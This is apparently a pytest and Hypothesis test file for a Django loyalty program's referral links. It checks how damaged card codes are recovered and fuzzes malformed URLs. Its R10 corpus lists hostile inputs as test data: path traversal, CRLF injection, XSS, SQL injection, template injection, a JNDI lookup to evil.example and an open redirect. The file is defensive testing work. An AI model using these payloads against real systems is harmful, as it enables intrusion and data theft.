"""Links that suffered on their way: which are understood, which are not, and that nothing breaks."""

from __future__ import annotations

from typing import Any

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from loyalty.codes import ALPHABET, generate
from loyalty.models import Card, CardNumber, Program
from loyalty.services import close_card
from referrals.exceptions import ReferralError
from referrals.models import Visit
from referrals.services import find_mangled_link, get_link
from tests.referrals.rows import START, make_card, make_program
from tests.referrals.visiting import MIDDLEWARE, browser

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.referrals.site")]

NUMBER = "ACEFHJKMNPRC"


@pytest.fixture
def program() -> Program:
    return make_program()


@pytest.fixture
def referrer(program: Program) -> Card:
    return make_card(program, NUMBER)


def test_a_whole_code_is_not_repaired(referrer: Card, program: Program) -> None:
    found = find_mangled_link(program=program, text=NUMBER)

    assert (found.link.card, found.repaired) == (referrer, False)


@pytest.mark.parametrize(
    "text",
    [
        NUMBER.lower(),
        "acef-hjkm-nprc",
        f"({NUMBER})",
        f"<{NUMBER}>",
        f"«{NUMBER}»",
        f'"{NUMBER}".',
        f"{NUMBER}/",
        f" {NUMBER}\n",
        f"**{NUMBER}**,",
        f"{NUMBER}!!!",
        f"\u200b{NUMBER}\u200b",
        f"{NUMBER}\0",
        "АСЕFHJKMNРRС",
        "ＡＣＥＦＨＪＫＭＮＰＲＣ",
        NUMBER[:-1],
        NUMBER[:-2],
        NUMBER[:-2].lower() + "…",
    ],
    ids=[
        "lower case",
        "dashes",
        "brackets",
        "angles",
        "guillemets",
        "quotes",
        "slash",
        "blanks",
        "markdown",
        "exclamation",
        "no width",
        "nul",
        "Cyrillic",
        "wide",
        "one cut off",
        "two cut off",
        "cut off and marked",
    ],
)
def test_what_happens_to_links_is_understood_and_flagged(text: str, referrer: Card, program: Program) -> None:
    found = find_mangled_link(program=program, text=text)

    assert (found.link.card, found.repaired) == (referrer, True)


@pytest.mark.parametrize(
    "text",
    [NUMBER[:-3], NUMBER[1:], NUMBER[2:], NUMBER[:5] + NUMBER[6:], "X" + NUMBER, NUMBER + "XY", NUMBER[:7]],
    ids=["three cut off", "first lost", "two lost", "one lost within", "more before", "more behind", "short"],
)
def test_more_damage_is_not_guessed_at(text: str, referrer: Card, program: Program) -> None:
    with pytest.raises(ReferralError):
        find_mangled_link(program=program, text=text)


def test_a_cut_code_that_fits_two_cards_is_nobodys(referrer: Card, program: Program) -> None:
    make_card(program, NUMBER[:-2] + "XY")

    assert find_mangled_link(program=program, text=NUMBER[:-1]).link.card == referrer
    with pytest.raises(ReferralError):
        find_mangled_link(program=program, text=NUMBER[:-2])


def test_two_numbers_of_one_card_are_one_card(referrer: Card, program: Program) -> None:
    CardNumber.objects.create(
        program=program, card=referrer, number=NUMBER[:-2] + "XY", issued_at=START, retired_at=START
    )

    assert find_mangled_link(program=program, text=NUMBER[:-2]).link.card == referrer


def test_a_link_of_its_own_is_repaired_too(program: Program) -> None:
    link = get_link(card=make_card(program, ""))

    assert find_mangled_link(program=program, text=link.code[:-2]).link == link


def test_longer_numbers_do_not_hide_the_one_that_fits(program: Program) -> None:
    card = make_card(program, "1000000001")
    for number in range(20):
        make_card(program, f"100000000155{number:04d}")

    assert find_mangled_link(program=program, text="100000000").link.card == card


def test_numbers_in_a_row_are_told_apart_only_where_one_fits(program: Program) -> None:
    """Plastic that was numbered in order: a rest fits ten or a hundred of them."""
    for number in range(60):
        make_card(program, f"20250000{number:04d}")

    for rest in ("20250000003", "2025000000"):
        with pytest.raises(ReferralError):
            find_mangled_link(program=program, text=rest)


def test_a_cut_code_of_a_closed_card_is_unknown(referrer: Card, program: Program) -> None:
    close_card(card=referrer, reason="Left.")

    with pytest.raises(ReferralError):
        find_mangled_link(program=program, text=NUMBER[:-1])


def test_a_cut_code_of_another_program_is_unknown(referrer: Card) -> None:
    with pytest.raises(ReferralError):
        find_mangled_link(program=make_program(slug="books"), text=NUMBER[:-1])


def test_it_takes_as_many_statements_however_many_cards_there_are(program: Program) -> None:
    counted = []
    for cards in (1, 200):
        for _ in range(cards):
            make_card(program, generate())
        with CaptureQueriesContext(connection) as queries, pytest.raises(ReferralError):
            find_mangled_link(program=program, text="ACEFHJKMNP")
        counted.append(len(queries))

    assert counted == [4, 4]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cut=st.integers(0, 2), marks=st.text(" .,!?()<>«»\"'*_-/", max_size=5), lower=st.booleans())
def test_every_number_of_ours_is_found_however_it_is_mangled(
    cut: int, marks: str, lower: bool, program: Program
) -> None:
    number = generate()
    card = make_card(program, number)
    rest = number[: len(number) - cut]

    found = find_mangled_link(program=program, text=f"{marks}{rest.lower() if lower else rest}{marks[::-1]}")

    assert found.link.card == card


# --- R10 ---------------------------------------------------------------------------------------------------

CORPUS = [
    "%00",
    "%00" + NUMBER,
    "%ED%A0%80",  # a lone surrogate
    "%FF%FE",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "..%5c..%5cwindows",
    "%0d%0aSet-Cookie:%20a=b",
    "%",
    "%%",
    "%zz",
    "%E0%A4%A",
    "A" * 8_000,
    "%F0%9F%8E%81" * 200,
    "%D0%90%D0%A1%D0%95",
    "%EF%B7%BA" * 100,  # one letter that becomes eighteen
    "%CC%81" * 300,  # accents upon accents
    "%E2%80%AE" + NUMBER,
    "<script>alert(1)</script>",
    "%27%20OR%201=1--",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    NUMBER + "%0a",
    NUMBER + "?ref=" + NUMBER,
    NUMBER + "?ref=%00&to=%ED%A0%80&via=%00%FF",
    NUMBER + "?" + "&".join(f"a{number}=1" for number in range(900)),
    "?to[]=1&to=%00",
    "//evil.example//",
    "\u0130" * 90,
    "１２３４５６７８９０",
    "٠١٢٣٤٥٦٧٨٩",
    "ⅷ" * 40,
    "ß" * 60,
]

PIECES = st.one_of(
    st.text(max_size=40),
    st.text(ALPHABET, max_size=14),
    st.sampled_from([NUMBER, NUMBER[:-1], NUMBER[:-2], *CORPUS]),
    st.binary(max_size=12).map(lambda raw: "".join(f"%{byte:02X}" for byte in raw)),
    st.sampled_from(["/", "//", "?", "#", "&", "=", "ref=", "to=", "via=", "%", " ", "\\", ";", "@", ":"]),
)


@pytest.fixture
def landed(referrer: Card, settings: Any) -> None:
    """A site with links, and one card."""
    settings.MIDDLEWARE = MIDDLEWARE


def open_path(path: str) -> tuple[int, str]:
    """Where the raw path leads, whatever is in it, as a server would hand it on."""
    from urllib.parse import unquote_to_bytes

    raw, _mark, query = path.encode("utf-8", "surrogatepass").partition(b"?")
    cache.clear()
    client = browser()
    response = client.get(
        "/",
        PATH_INFO=unquote_to_bytes(raw).decode("latin-1"),
        QUERY_STRING=query.replace(b"\n", b"").decode("latin-1"),
    )
    return response.status_code, response.get("Location", "")


@settings(
    max_examples=settings().max_examples if settings().max_examples >= 10_000 else 1_000,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    pieces=st.lists(PIECES, max_size=5), prefix=st.sampled_from(["/r/", "/r/", "/r", "/?ref=", "/sale/?ref="])
)
@example(pieces=["\ud800"], prefix="/r/")
@example(pieces=["\0"], prefix="/?ref=")
def test_r10_malformed_links_give_no_error_and_lead_nowhere_else(
    pieces: list[str], prefix: str, landed: None
) -> None:
    status, location = open_path(prefix + "".join(pieces))

    assert status in (200, 301, 302, 400, 404)
    assert location == "" or (location.startswith("/") and not location.startswith(("//", "/\\")))


@pytest.mark.parametrize("path", CORPUS, ids=range(len(CORPUS)))
@pytest.mark.parametrize("prefix", ["/r/", "/?ref=", "/r/?ref="])
def test_r10_known_nasty_links(prefix: str, path: str, landed: None) -> None:
    assert open_path(prefix + path)[0] in (200, 302, 400, 404)
    for visit in Visit.objects.all():
        assert visit.code.isprintable()
        assert visit.channel.isprintable()
